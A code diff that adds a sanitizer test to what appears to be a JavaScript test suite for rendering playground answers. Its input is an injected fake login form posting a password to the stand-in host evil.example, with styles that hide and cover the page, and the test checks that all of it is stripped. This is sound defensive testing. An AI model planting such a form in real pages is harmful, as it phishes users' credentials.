@@ -18,6 +18,12 @@ describe('playground answers', () => {
     expect(html).not.toMatch(/onerror|<script|javascript:/);
   });
 
+  it('cannot dress up as the console: no forms, no styles', () => {
+    const html = renderAnswer('<form action="https://evil.example"><input name="password"><button>Sign in</button></form><style>body{display:none}</style><div style="position:fixed;inset:0">cover</div>');
+    expect(html).not.toMatch(/<form|<input|<button|<style|style=/);
+    expect(html).toContain('cover');
+  });
+
   it('escape code, and keep # as text outside hash-comment languages', () => {
     expect(highlightCode('a < b && c', 'js')).toBe('a &#60; b &#38;&#38; c');
     expect(highlightCode('# heading', 'python')).toBe('<span class="mg-hl-comment"># heading</span>');
